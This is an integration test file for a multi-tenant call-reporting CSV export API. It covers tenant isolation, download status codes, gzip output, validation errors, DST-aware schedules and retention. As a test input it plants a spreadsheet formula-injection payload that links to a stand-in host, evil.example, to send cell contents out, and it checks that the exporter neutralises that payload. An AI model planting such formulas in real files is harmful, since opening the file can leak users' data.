import { createHash, randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { getQueueToken } from '@nestjs/bullmq';
import { NestFastifyApplication } from '@nestjs/platform-fastify';
import { Queue } from 'bullmq';
import { Pool } from 'pg';
import { ExportService, schedulerId } from '@app/exports';
import { QUEUES, TenancyService } from '@app/platform';
import { ApiModule } from '../../apps/api/api.module';
import { IngestModule } from '../../apps/ingest/ingest.module';
import { WorkerModule } from '../../apps/worker/worker.module';
import { startTestApp } from '../support/app';
import { TEST_DATABASE_URL, TEST_EXPORT_DIR, testPool, waitFor } from '../support/env';
import { voipcloudInbound, voipcloudQueueCalls } from './fixtures';
import { RunView, TestTenant, csvRows, download, exportCsv, finished, gql, runExport, tenantWith } from './support';

let app: NestFastifyApplication;
let url: string;
let pool: Pool;
let tenancy: TenancyService;

const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
const DAY = { from: '2026-03-02T00:00:00Z', to: '2026-03-03T00:00:00Z' };

beforeAll(async () => {
  ({ app, url } = await startTestApp([IngestModule, WorkerModule, ApiModule], { PROJECTION_CATCHUP_MS: '200' }));
  tenancy = app.get(TenancyService);
  pool = testPool(TEST_DATABASE_URL);
});
afterAll(async () => {
  await app?.close();
  await pool?.end();
});

async function gqlError(key: string, query: string, variables: Record<string, unknown>) {
  const { body } = await gql(url, key, query, variables);
  expect(body.data).toBeNull();
  expect(JSON.stringify(body.errors)).not.toMatch(/SELECT|stack|node_modules/);
  return body.errors![0];
}

describe('CSV content and download', () => {
  let a: TestTenant;
  let b: TestTenant;
  let calls: { run: RunView; text: string };

  beforeAll(async () => {
    a = await tenantWith(url, tenancy, pool, 'exports-a', [
      {
        vendor: 'voipcloud',
        payloads: [
          voipcloudInbound('inj-1', '2026-03-02T10:00:00Z', '+61290000000', HYPERLINK),
          voipcloudInbound('inj-2', '2026-03-02T10:05:00Z', '-12', '@SUM(1+1)'),
          ...voipcloudQueueCalls('2026-03-02T01:00:00Z', 12, 90),
        ],
      },
    ]);
    b = await tenantWith(url, tenancy, pool, 'exports-b', [
      { vendor: 'voipcloud', payloads: voipcloudQueueCalls('2026-03-02T02:00:00Z', 3, 60, 'b') },
    ]);
    calls = await exportCsv(url, a.key, { report: 'CALLS', ...DAY, timezone: 'UTC' });
  }, 120000);

  it('neutralises a formula in a caller name and leaves +E.164 numbers as they are', () => {
    expect(calls.text).toContain(
      `,"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",` /* quoted: it has commas and quotes */,
    );
    const [header, ...rows] = csvRows(calls.text);
    const col = (name: string) => header.indexOf(name);
    const injected = rows.find((r) => r[col('vendorCallId')] === 'inj-1')!;
    expect(injected[col('callerName')]).toBe(`'${HYPERLINK}`);
    expect(injected[col('callerNumber')]).toBe('+61290000000');
    const other = rows.find((r) => r[col('vendorCallId')] === 'inj-2')!;
    expect(other[col('callerName')]).toBe("'@SUM(1+1)");
    expect(other[col('callerNumber')]).toBe('-12');
    // Every E.164 number of the file stayed a number.
    const numbers = rows.map((r) => r[col('callerNumber')]).filter((n) => n.startsWith('+'));
    expect(numbers.length).toBeGreaterThan(5);
    for (const n of numbers) expect(n).toMatch(/^\+\d+$/);
  });

  it('is RFC 4180 with CRLF, a header of the fixed columns, and the run records rows, size and SHA-256', async () => {
    expect(calls.text.startsWith('id,vendor,sourceId,vendorCallId,sessionId,direction,status,disposition,')).toBe(true);
    expect(calls.text.endsWith('\r\n')).toBe(true);
    expect(calls.text.replace(/\r\n/g, '').includes('\n')).toBe(false);
    const { run } = calls;
    expect(run.rowCount).toBe(14);
    expect(csvRows(calls.text)).toHaveLength(15);
    expect(run.bytes).toBe(Buffer.byteLength(calls.text));
    expect(run.sha256).toBe(createHash('sha256').update(calls.text).digest('hex'));
    expect(run).toMatchObject({
      status: 'SUCCEEDED',
      report: 'CALLS',
      timezone: 'UTC',
      from: '2026-03-02T00:00:00.000Z',
      to: '2026-03-03T00:00:00.000Z',
      downloadPath: `/exports/${run.id}/download`,
      fileName: 'calls_2026-03-02T00-00+00-00_2026-03-03T00-00+00-00_UTC.csv',
      attempts: 1,
      error: null,
    });
  });

  it('serves the file to the run’s tenant, streamed with its name, type, size and digest', async () => {
    const res = await download(url, a.key, calls.run.id);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="calls_2026-03-02T00-00+00-00_2026-03-03T00-00+00-00_UTC.csv"',
    );
    expect(res.headers.get('content-length')).toBe(String(calls.run.bytes));
    expect(res.headers.get('etag')).toBe(`"${calls.run.sha256}"`);
    expect(res.body.toString('utf8')).toBe(calls.text);
  });

  it('another tenant’s key gets 404, exactly like an unknown run; no key gets 401', async () => {
    const other = await download(url, b.key, calls.run.id);
    expect(other.status).toBe(404);
    expect(JSON.parse(other.body.toString())).toEqual({ error: 'no such export run' });
    expect((await download(url, a.key, randomUUID())).status).toBe(404);
    expect((await download(url, a.key, 'not-a-uuid')).status).toBe(404);
    const anonymous = await download(url, null, calls.run.id);
    expect(anonymous.status).toBe(401);
    expect(JSON.parse(anonymous.body.toString())).toEqual({
      error: 'send an API key as Authorization: Bearer <key>',
    });
    // GraphQL does not show it either.
    const { body } = await gql(url, b.key, `query($id: ID!) { exportRun(id: $id) { id } }`, { id: calls.run.id });
    expect(body.data.exportRun).toBeNull();
    const mine = await gql(url, b.key, `{ exportRuns { id } }`);
    expect(mine.body.data.exportRuns.map((r: { id: string }) => r.id)).not.toContain(calls.run.id);
  });

  it('409 while a run has no file, 410 once its file is gone', async () => {
    const queued = await pool.query<{ id: string }>(
      `INSERT INTO export_runs (tenant_id, report, request, range_from, range_to, timezone)
       VALUES ($1, 'CALLS', '{}', $2, $3, 'UTC') RETURNING id`,
      [a.id, DAY.from, DAY.to],
    );
    const notYet = await download(url, a.key, queued.rows[0].id);
    expect(notYet.status).toBe(409);
    expect(JSON.parse(notYet.body.toString())).toEqual({
      error: `export run ${queued.rows[0].id} is QUEUED: download it once its status is SUCCEEDED`,
      status: 'QUEUED',
    });
    await pool.query(`DELETE FROM export_runs WHERE id = $1`, [queued.rows[0].id]);

    const gone = await exportCsv(url, a.key, { report: 'CALLS', ...DAY, timezone: 'Asia/Kathmandu' });
    await rm(join(TEST_EXPORT_DIR, a.id, gone.run.id), { recursive: true });
    const res = await download(url, a.key, gone.run.id);
    expect(res.status).toBe(410);
    expect(JSON.parse(res.body.toString()).error).toBe(`the file of export run ${gone.run.id} is no longer available`);
  });

  it('gzip: the same CSV compressed, named .csv.gz, hashed as downloaded', async () => {
    const run = await finished(
      url,
      a.key,
      (await runExport(url, a.key, { report: 'CALLS', ...DAY, timezone: 'UTC', gzip: true })).id,
    );
    expect(run.fileName).toBe('calls_2026-03-02T00-00+00-00_2026-03-03T00-00+00-00_UTC.csv.gz');
    const res = await download(url, a.key, run.id);
    expect(res.headers.get('content-type')).toBe('application/gzip');
    expect(createHash('sha256').update(res.body).digest('hex')).toBe(run.sha256);
    expect(res.body.length).toBe(run.bytes);
    expect(gunzipSync(res.body).toString('utf8')).toBe(calls.text);
  });

  it('bad requests get clear errors naming the field, before any run exists', async () => {
    const before = (await pool.query(`SELECT count(*)::int AS n FROM export_runs WHERE tenant_id = $1`, [a.id])).rows[0]
      .n;
    const run = `mutation($i: ExportRequest!) { runExport(input: $i) { id } }`;
    expect(await gqlError(a.key, run, { i: { report: 'QUEUE_STATS', ...DAY } })).toMatchObject({
      message: 'a QUEUE_STATS export needs granularity',
      extensions: { code: 'BAD_USER_INPUT', field: 'granularity' },
    });
    expect(await gqlError(a.key, run, { i: { report: 'CALLS', from: DAY.from } })).toMatchObject({
      message: 'to is required with from',
      extensions: { field: 'to' },
    });
    expect(
      await gqlError(a.key, run, {
        i: { report: 'QUEUE_STATS', granularity: 'FIFTEEN_MINUTES', from: '2026-01-01T00:00:00Z', to: DAY.to },
      }),
    ).toMatchObject({ message: 'the range may span at most 31 days at FIFTEEN_MINUTES', extensions: { field: 'to' } });
    expect(await gqlError(a.key, run, { i: { report: 'AGENT_TIMELINE', ...DAY } })).toMatchObject({
      extensions: { field: 'agents' },
    });
    expect(
      await gqlError(a.key, run, { i: { report: 'CALLS', range: 'PREVIOUS_DAY', timezone: 'Mars/Base' } }),
    ).toMatchObject({
      extensions: { field: 'timezone' },
    });
    expect(await gqlError(a.key, `{ exportRuns(first: 0) { id } }`, {})).toMatchObject({
      message: 'first must be between 1 and 500',
    });
    const schedule = `mutation($i: ExportScheduleInput!) { createExportSchedule(input: $i) { id } }`;
    const request = { report: 'CALLS', range: 'PREVIOUS_DAY' };
    expect(
      await gqlError(a.key, schedule, { i: { name: 'x', cron: '0 2 * *', timezone: 'UTC', request } }),
    ).toMatchObject({
      message: 'cron "0 2 * *" must have 5 fields (minute hour day month weekday), or 6 with leading seconds',
      extensions: { field: 'cron' },
    });
    expect(
      await gqlError(a.key, schedule, {
        i: { name: 'x', cron: '0 2 * * *', timezone: 'UTC', request: { report: 'CALLS', ...DAY } },
      }),
    ).toMatchObject({ extensions: { field: 'range' } });
    expect(
      await gqlError(a.key, schedule, {
        i: { name: 'x', cron: '0 2 * * *', timezone: 'UTC', request: { ...request, timezone: 'Europe/London' } },
      }),
    ).toMatchObject({ extensions: { field: 'request.timezone' } });
    expect(
      (await pool.query(`SELECT count(*)::int AS n FROM export_runs WHERE tenant_id = $1`, [a.id])).rows[0].n,
    ).toBe(before);
    expect(
      (await pool.query(`SELECT count(*)::int AS n FROM export_schedules WHERE tenant_id = $1`, [a.id])).rows[0].n,
    ).toBe(0);
  });
});

describe('a schedule in Europe/London over the October DST change', () => {
  let t: TestTenant;
  // Queue calls on each side of 2026-10-25 in London, and in both of its 01:30s.
  const inside = ['2026-10-24T23:00:00Z', '2026-10-25T00:30:00Z', '2026-10-25T01:30:00Z', '2026-10-25T23:59:00Z'];
  const outside = ['2026-10-24T22:59:59Z', '2026-10-26T00:00:00Z'];

  beforeAll(async () => {
    const payloads = [...inside, ...outside].flatMap((at, i) =>
      voipcloudQueueCalls(at, 1, 1, `dst-${i}`).map((p) => ({ ...p, status: 'answered', queue_name: 'Sales' })),
    );
    t = await tenantWith(url, tenancy, pool, 'london', [{ vendor: 'voipcloud', payloads }], {
      timezone: 'Europe/London',
    });
  }, 60000);

  async function schedule(name: string, request: Record<string, unknown>) {
    const { body } = await gql(
      url,
      t.key,
      `mutation($i: ExportScheduleInput!) { createExportSchedule(input: $i) { id name cron timezone nextRunAt report range } }`,
      { i: { name, cron: '0 2 * * *', timezone: 'Europe/London', request } },
    );
    expect(body.errors).toBeUndefined();
    return body.data.createExportSchedule as { id: string; nextRunAt: string; report: string; range: string };
  }

  /** The job the schedule's BullMQ scheduler would add when 2026-10-26 02:00 London is due. */
  async function dueAt(scheduleId: string, slot: string): Promise<RunView> {
    const queue = app.get<Queue>(getQueueToken(QUEUES.exports));
    await queue.add('scheduled', { scheduleId, slot }, { jobId: `test-${scheduleId}-${Date.parse(slot)}` });
    const runId = await waitFor(async () => {
      const { body } = await gql(url, t.key, `{ exportRuns { id scheduleId } }`);
      return body.data.exportRuns.find((r: { scheduleId: string }) => r.scheduleId === scheduleId)?.id as string;
    });
    return finished(url, t.key, runId);
  }

  it('exports the 25-hour day 2026-10-25, named with both offsets', async () => {
    const s = await schedule('daily calls', { report: 'CALLS', range: 'PREVIOUS_DAY' });
    expect(s).toMatchObject({ report: 'CALLS', range: 'PREVIOUS_DAY' });
    // The scheduler's next time is a 02:00 in London.
    const next = new Date(s.nextRunAt);
    expect(next.getTime()).toBeGreaterThan(Date.now() - 60_000);
    expect(new Intl.DateTimeFormat('en-GB', { timeZone: 'Europe/London', timeStyle: 'short' }).format(next)).toBe(
      '02:00',
    );

    const run = await dueAt(s.id, '2026-10-26T02:00:00.000Z');
    expect(run).toMatchObject({
      status: 'SUCCEEDED',
      from: '2026-10-24T23:00:00.000Z',
      to: '2026-10-26T00:00:00.000Z',
      timezone: 'Europe/London',
      fileName: 'calls_2026-10-25T00-00+01-00_2026-10-26T00-00+00-00_Europe-London.csv',
      rowCount: 4,
    });
    expect(Date.parse(run.to!) - Date.parse(run.from!)).toBe(25 * 3_600_000);
    const [header, ...rows] = csvRows((await download(url, t.key, run.id)).body.toString());
    expect(rows.map((r) => r[header.indexOf('startedAt')])).toEqual([
      '2026-10-25T23:59:00.000+00:00',
      '2026-10-25T01:30:00.000+00:00',
      '2026-10-25T01:30:00.000+01:00',
      '2026-10-25T00:00:00.000+01:00',
    ]);
  });

  it('hourly queue stats of that day keep the two 01:00 hours apart', async () => {
    const s = await schedule('daily queue', { report: 'QUEUE_STATS', range: 'PREVIOUS_DAY', granularity: 'HOUR' });
    const run = await dueAt(s.id, '2026-10-26T02:00:00.000Z');
    const [header, ...rows] = csvRows((await download(url, t.key, run.id)).body.toString());
    expect(rows.map((r) => [r[header.indexOf('intervalStart')], r[header.indexOf('offered')]])).toEqual([
      ['2026-10-25T00:00:00.000+01:00', '1'],
      ['2026-10-25T01:00:00.000+01:00', '1'],
      ['2026-10-25T01:00:00.000+00:00', '1'],
      ['2026-10-25T23:00:00.000+00:00', '1'],
    ]);
  });

  it('lists schedules; deleting one stops its scheduler and keeps its runs', async () => {
    const { body } = await gql(url, t.key, `{ exportSchedules { id name nextRunAt } }`);
    expect(body.data.exportSchedules.map((s: { name: string }) => s.name)).toEqual(['daily calls', 'daily queue']);
    const id = body.data.exportSchedules[0].id as string;
    const queue = app.get<Queue>(getQueueToken(QUEUES.exports));
    expect(await queue.getJobScheduler(schedulerId(id))).toBeTruthy();
    // Another tenant cannot delete it.
    const stranger = await tenantWith(url, tenancy, pool, 'stranger', []);
    const del = `mutation($id: ID!) { deleteExportSchedule(id: $id) }`;
    expect((await gql(url, stranger.key, del, { id })).body.data.deleteExportSchedule).toBe(false);
    expect((await gql(url, t.key, del, { id })).body.data.deleteExportSchedule).toBe(true);
    expect((await gql(url, t.key, del, { id })).body.data.deleteExportSchedule).toBe(false);
    expect(await queue.getJobScheduler(schedulerId(id))).toBeFalsy();
    const runs = await gql(url, t.key, `{ exportRuns { scheduleId status } }`);
    expect(runs.body.data.exportRuns).toContainEqual({ scheduleId: null, status: 'SUCCEEDED' });
  });
});

describe('retention', () => {
  it('deletes runs and files older than EXPORT_RETENTION_DAYS, keeps newer ones', async () => {
    const t = await tenantWith(url, tenancy, pool, 'retention', [
      { vendor: 'voipcloud', payloads: voipcloudQueueCalls('2026-03-02T01:00:00Z', 2, 60, 'ret') },
    ]);
    const old = await exportCsv(url, t.key, { report: 'CALLS', ...DAY });
    const recent = await exportCsv(url, t.key, { report: 'CALLS', ...DAY, gzip: true });
    const dir = (run: RunView) => join(TEST_EXPORT_DIR, t.id, run.id);
    expect(existsSync(dir(old.run))).toBe(true);
    await pool.query(`UPDATE export_runs SET finished_at = now() - interval '31 days' WHERE id = $1`, [old.run.id]);

    const result = await app.get(ExportService).maintenance();
    expect(result.deleted).toBeGreaterThanOrEqual(1);
    expect(existsSync(dir(old.run))).toBe(false);
    expect(existsSync(dir(recent.run))).toBe(true);
    const { body } = await gql(url, t.key, `{ exportRuns { id } }`);
    expect(body.data.exportRuns.map((r: { id: string }) => r.id)).toEqual([recent.run.id]);
    expect((await download(url, t.key, old.run.id)).status).toBe(404);
  });
});
